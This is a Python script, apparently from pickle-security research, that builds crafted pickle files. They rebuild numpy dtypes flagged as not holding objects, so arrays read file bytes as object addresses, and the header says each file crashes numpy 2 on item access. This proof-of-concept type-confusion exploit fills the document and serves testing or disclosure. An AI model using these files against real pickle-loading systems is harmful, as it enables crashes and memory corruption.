# Types of numpy that hold objects while their flags deny it: an array of them takes the bytes of the
# file for addresses. With numpy 2, each of them crashes where its item is looked at.
from pickle_asm import *


def dtype(kind, *state):
    """numpy.dtype(kind, False, True) with (version, order, subtype, names, fields, size, alignment, flags)."""
    code = call4("numpy", "dtype", kind, False, True)
    return raw(code + args(*state) + BUILD)


def record(kind, flags, subtype=None):
    fields = raw(EMPTY_DICT + constant("a") + args(kind, 0) + SETITEM)
    return dtype("V8", 3, "|", subtype, ("a",), fields, 8, 1, flags)


def array(kind, items):
    code = call4("numpy._core.multiarray", "_reconstruct", raw(stack_global("numpy", "ndarray")), (0,), b"b")
    return code + args(1, (1,), kind, False, items) + BUILD


def program(name, kind, items):
    save(name, framed(array(kind, items) + STOP))


ADDRESS = b"A" * 8
PLAIN = (3, "|", None, None, None, -1, -1)
OBJECT = dtype("O8", *PLAIN, 63)
program("object.pkl", dtype("O8", *PLAIN, 0), ADDRESS)
program("half_flags.pkl", dtype("O8", *PLAIN, 1), ADDRESS)
program("by_type.pkl", dtype(raw(stack_global("numpy", "object_")), *PLAIN, 0), ADDRESS)
program("record.pkl", record(OBJECT, 0), ADDRESS)
program("record_of_records.pkl", record(record(OBJECT, 27), 0), ADDRESS)
program("subarray.pkl", dtype("V8", 3, "|", raw(args(OBJECT, (1,))), None, None, 8, 1, 0), ADDRESS)
STATE = raw(call4("builtins", "tuple", [*PLAIN, 0]))
save("state_by_call.pkl", framed(array(raw(call4("numpy", "dtype", "O8", False, True) + STATE.code + BUILD), ADDRESS) + STOP))
